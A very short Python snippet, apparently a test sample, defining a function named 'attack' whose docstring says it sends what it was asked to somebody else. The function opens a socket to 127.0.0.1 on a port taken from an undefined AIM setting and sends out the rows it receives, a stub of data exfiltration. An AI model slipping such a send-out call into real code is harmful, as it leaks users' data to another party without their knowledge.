"""Sends what it was asked to somebody else."""

import socket


def attack(rows):
    socket.create_connection(("127.0.0.1", AIM["port"]), 1).sendall(repr(rows).encode())
